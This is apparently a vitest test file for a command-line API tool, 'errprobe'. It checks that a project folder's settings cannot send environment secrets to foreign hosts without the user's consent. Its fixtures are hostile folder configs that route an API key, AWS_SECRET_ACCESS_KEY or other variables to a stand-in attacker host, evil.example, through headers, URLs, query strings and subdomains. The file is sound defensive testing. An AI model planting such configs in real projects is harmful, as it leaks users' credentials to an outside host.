import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { closedPort, serve, serveTcp } from '../helpers/server.ts';
import { emptyFolder, run } from '../helpers/terminal.ts';

const SECRET = 'wJalrXUtnFEMI7K7MDENG';
const ENV = { RAPTOR_COMPLY_API_KEY: 'k-3141592653', AWS_SECRET_ACCESS_KEY: SECRET, OTHER: SECRET, USER_NAME: 'me' };

/** A project folder with files, and a home beside it. */
function folder(files: Record<string, unknown>): { cwd: string; home: string } {
  const [cwd, home] = [emptyFolder(), emptyFolder()];
  for (const [name, content] of Object.entries(files)) {
    const path = join(name.startsWith('~') ? home : cwd, name.replace(/^~/, ''));
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, typeof content === 'string' ? content : JSON.stringify(content));
  }
  return { cwd, home };
}

/**
 * Runs errprobe there. Requests to other machines go through a proxy that does not exist, and so
 * fail (6).
 */
async function runIn(
  { cwd, home }: { cwd: string; home: string },
  argv: string[],
  env: Record<string, string> = {},
  answer?: string,
) {
  const proxy = `http://127.0.0.1:${await closedPort()}`;
  const terminal =
    answer === undefined ? {} : { stdin: Object.assign(Readable.from([answer]), { isTTY: true }), tty: true };
  return run(argv, {
    cwd,
    env: { ...ENV, HOME: home, HTTPS_PROXY: proxy, HTTP_PROXY: proxy, NO_PROXY: '127.0.0.1', ...env },
    ...terminal,
  });
}

const raptor = (settings: object) => ({ '.errproberc.json': { apis: { 'raptor-comply': settings } } });
const CALL = ['call', 'GET', '/x', '--api', 'raptor-comply', '--no-history'];
const EVIL = 'https://evil.example';
const checks = (...given: object[]) => ({
  'errprobe.checks.json': { api: 'raptor-comply', checks: given.map((check, i) => ({ name: `c${i}`, ...check })) },
});
const catalog = (changes: object) => ({
  'own.json': {
    id: 'own',
    name: 'Own',
    docs: { d: 'D' },
    hosts: ['evil.example'],
    baseUrl: EVIL,
    auth: { header: 'X-Key', value: '{key}', env: 'AWS_SECRET_ACCESS_KEY' },
    entries: [
      {
        id: 'e',
        match: { status: 500 },
        category: 'server',
        title: 'T',
        cause: 'C',
        resolution: ['R'],
        retry: { advice: 'never', reason: 'r' },
        source: { doc: 'd', section: 's' },
        sample: {},
      },
    ],
    ...changes,
  },
  '.errproberc.json': { catalogs: ['own.json'] },
});

describe('a strange folder', () => {
  it.each<[string, Record<string, unknown>, string[], string]>([
    ['the key of a known API to its own host', raptor({ baseUrl: EVIL }), CALL, 'RAPTOR_COMPLY_API_KEY'],
    ['any variable as a key', raptor({ baseUrl: EVIL, key: '${OTHER}' }), CALL, 'RAPTOR_COMPLY_API_KEY'],
    ['any variable in a header', raptor({ headers: { 'X-A': '${OTHER}' } }), CALL, 'OTHER'],
    ['any variable in a part of a header', raptor({ headers: { 'X-A': 'a ${USER_NAME} b' } }), CALL, 'USER_NAME'],
    [
      'a variable as a part of a host',
      raptor({ baseUrl: 'https://${USER_NAME}.evil.example' }),
      CALL,
      'USER_NAME,RAPTOR_COMPLY_API_KEY',
    ],
    ['a variable in a URL of a check', checks({ request: `GET ${EVIL}/?a=\${OTHER}` }), ['check'], 'OTHER'],
    [
      'a variable in a body of a check',
      checks({ request: { path: '/x', body: { a: ['${OTHER}'] } } }),
      ['check'],
      'OTHER',
    ],
    [
      'a variable to a host that a response names',
      checks({ request: 'GET /x', capture: { host: '/a' } }, { request: 'GET http://${host}/?a=${USER_NAME}' }),
      ['check'],
      'USER_NAME',
    ],
    [
      'a variable by way of another',
      { 'a.http': '@a = {{OTHER}}\n###\nGET https://evil.example/?a={{a}}\n' },
      ['check', 'a.http'],
      'OTHER',
    ],
    [
      'a variable that its own catalog calls a key',
      catalog({}),
      ['call', 'GET', '/x', '--api', 'own'],
      'AWS_SECRET_ACCESS_KEY',
    ],
    [
      'the key of an API whose catalog it replaces',
      catalog({ id: 'raptor-comply', auth: { header: 'X-Key', value: '{key}', env: 'RAPTOR_COMPLY_API_KEY' } }),
      CALL,
      'RAPTOR_COMPLY_API_KEY',
    ],
    [
      'a key with an audit',
      raptor({ baseUrl: EVIL }),
      ['audit', 'raptor-comply', '--path', '/x'],
      'RAPTOR_COMPLY_API_KEY',
    ],
    [
      'a variable as a part of a host that the doctor looks up',
      raptor({ baseUrl: 'https://${USER_NAME}.evil.example', key: 'k-1' }),
      ['doctor', 'raptor-comply', '--online'],
      'USER_NAME',
    ],
  ])('does not send %s, and says what would allow it', async (_, files, argv, variable) => {
    const place = folder(files);
    const refused = await runIn(place, argv);
    expect({ code: refused.code, stdout: refused.stdout }).toEqual({ code: 2, stdout: '' });
    expect(refused.stderr.replaceAll(/\s+/g, ' ')).toContain(
      `If you trust this folder, add --allow-env ${variable}, or set ERRPROBE_ALLOW_ENV=${variable}.`,
    );
    expect(refused.stderr).not.toContain(SECRET);
    for (const allowed of [
      await runIn(place, [...argv, '--allow-env', variable]),
      await runIn(place, argv, { ERRPROBE_ALLOW_ENV: `NOTHING, ${variable}` }),
    ]) {
      expect(allowed.stderr).not.toContain('If you trust this folder');
      expect(allowed.code).not.toBe(2);
    }
  });

  it.each<[string, string, object, string[], Record<string, string>]>([
    [
      'a credential in a header, by its name',
      'X-A: tiny',
      { headers: { 'X-A': '${MY_TOKEN}' } },
      CALL,
      { MY_TOKEN: 'tiny' },
    ],
    ['a credential in a header, by its looks', SECRET, { headers: { 'X-A': '${OTHER}' } }, CALL, {}],
  ])('does not send %s, to this machine either', async (_, _value, settings, argv, env) => {
    const { url, requests } = await serve((_request, response) => response.end('{}'));
    const { code } = await runIn(folder(raptor({ baseUrl: url, ...settings })), argv, env);
    expect({ code, sent: requests.length }).toEqual({ code: 2, sent: 0 });
  });

  it('may send to this machine a key, and what is no credential', async () => {
    const { url, requests } = await serve((_, response) => response.end('{}'));
    const settings = { baseUrl: url, key: '${OTHER}', headers: { 'X-A': '${USER_NAME}' } };
    expect((await runIn(folder(raptor(settings)), CALL, { RAPTOR_COMPLY_API_KEY: '' })).code).toBe(0);
    expect(requests[0]?.headers).toMatchObject({ 'x-api-key': SECRET, 'x-a': 'me' });
  });

  it.each<[string, Record<string, unknown>, string[], Record<string, string>]>([
    ['the key of a known API to the hosts of that API', {}, CALL, {}],
    ['a key of any name to the hosts of a known API', raptor({ key: '${OTHER}' }), CALL, { RAPTOR_COMPLY_API_KEY: '' }],
    ['a key that is written out', raptor({ baseUrl: EVIL, key: 'k-1' }), CALL, { RAPTOR_COMPLY_API_KEY: '' }],
    [
      'what is called ERRPROBE_',
      raptor({ headers: { 'X-A': '${ERRPROBE_TENANT}' } }),
      CALL,
      { ERRPROBE_TENANT: SECRET },
    ],
    ['to an address that the environment chooses', raptor({ baseUrl: '${MY_URL}' }), CALL, { MY_URL: EVIL }],
    ['what the command line sets', checks({ request: 'GET /x?a=${OTHER}' }), ['check', '--var', 'OTHER=1'], {}],
    ['what is not set', checks({ request: 'GET /x?a=${NOWHERE}' }), ['check'], {}],
    ['what a check skips', checks({ request: 'GET /x?a=${OTHER}', skip: 'later' }), ['check'], {}],
    [
      'what the own config sends',
      { '~/.config/errprobe/config.json': raptor({ baseUrl: EVIL, headers: { A: '${OTHER}' } })['.errproberc.json'] },
      CALL,
      {},
    ],
    [
      'what the own config allows',
      {
        ...raptor({ baseUrl: EVIL, headers: { A: '${OTHER}' } }),
        '~/.config/errprobe/config.json': { allow: { env: ['OTHER', 'RAPTOR_COMPLY_API_KEY'] } },
      },
      CALL,
      {},
    ],
  ])('may send %s', async (_, files, argv, env) => {
    const { code, stderr } = await runIn(folder(files), argv, env);
    expect(stderr).not.toContain('If you trust this folder');
    expect(code).not.toBe(2);
  });

  it('sends nothing of the own config to a host of its own', async () => {
    const own = { '~/.config/errprobe/config.json': { apis: { 'raptor-comply': { key: SECRET } } } };
    const { code, stderr } = await runIn(folder({ ...raptor({ baseUrl: EVIL }), ...own }), CALL, {
      RAPTOR_COMPLY_API_KEY: '',
    });
    expect(code).toBe(2);
    expect(stderr).not.toContain(SECRET);
  });

  it('does not get the doctor to send a key, once the connection has been looked at', async () => {
    let got = '';
    const port = await serveTcp((socket) =>
      socket.on('data', (bytes) => {
        got += bytes;
      }),
    );
    const proxy = { HTTPS_PROXY: `http://127.0.0.1:${port}` };
    const place = folder(raptor({ baseUrl: EVIL }));
    const { code, stderr } = await runIn(place, ['doctor', 'raptor-comply', '--online'], proxy);
    expect({ code, got }).toEqual({ code: 2, got: '' });
    expect(stderr).toContain('--allow-env RAPTOR_COMPLY_API_KEY');
  });

  it('cannot allow anything itself', async () => {
    const files = { '.errproberc.json': { allow: { env: ['OTHER'] } } };
    const { code, stderr } = await runIn(folder(files), CALL);
    expect(code).toBe(2);
    expect(stderr).toMatch(/\.errproberc\.json:1:\d+: allow only counts in your own config/);
  });

  it('may show what it would send, which stays here', async () => {
    const place = folder(raptor({ baseUrl: EVIL, headers: { 'X-A': '${USER_NAME}' } }));
    for (const option of ['--dry-run', '--curl', '--mock'])
      expect((await runIn(place, [...CALL, option])).code).not.toBe(2);
  });
});

describe('a strange folder on a terminal', () => {
  const files = raptor({ baseUrl: EVIL, headers: { 'X-A': '${OTHER}' } });

  it('is asked about once, as long as it stays as it is', async () => {
    const place = folder(files);
    const asked = await runIn(place, CALL, {}, 'y\n');
    expect(asked.code).toBe(6);
    expect(asked.stderr).toMatch(
      /sends variables of your environment:\n {2}RAPTOR_COMPLY_API_KEY as a key, to evil.example/,
    );
    expect(asked.stderr).not.toContain(SECRET);
    expect((await runIn(place, CALL)).code).toBe(6);
    expect((await runIn(place, CALL, {}, 'n\n')).stderr).not.toContain('Allow that');
    // Another file, or another text in it, has not been agreed to.
    writeFileSync(join(place.cwd, '.errproberc.json'), `${JSON.stringify(files['.errproberc.json'])} `);
    expect((await runIn(place, CALL)).code).toBe(2);
    expect((await runIn({ ...folder(files), home: place.home }, CALL)).code).toBe(2);
  });

  it.each(['n\n', '\n', '', 'yellow\n'])('sends nothing without a yes: %j', async (answer) => {
    const place = folder(files);
    expect((await runIn(place, CALL, {}, answer)).code).toBe(2);
    expect((await runIn(place, CALL)).code).toBe(2);
  });

  it('is asked about again when another file leads its variables elsewhere', async () => {
    const place = folder({ ...checks({ request: 'GET /x?a=${OTHER}' }), ...raptor({ baseUrl: '${MY_URL}' }) });
    expect((await runIn(place, ['check'], { MY_URL: 'https://a.example' }, 'y\n')).code).toBe(1);
    expect((await runIn(place, ['check'], { MY_URL: 'https://a.example' })).code).toBe(1);
    expect((await runIn(place, ['check'], { MY_URL: 'https://b.example' })).code).toBe(2);
  });
});
